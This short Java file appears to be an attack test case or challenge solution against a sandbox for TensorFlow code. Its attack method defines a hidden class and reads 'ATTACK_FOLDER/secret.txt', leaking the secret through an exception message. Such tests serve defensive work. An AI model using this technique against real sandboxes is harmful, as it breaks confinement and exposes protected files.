import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.lang.invoke.MethodHandles;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        MethodHandles.lookup().defineHiddenClass(ClassFile.of().build(ClassDesc.of("Hidden"), type -> {}), true);
        throw new IllegalStateException(Files.readString(Path.of("ATTACK_FOLDER/secret.txt")));
    }
}
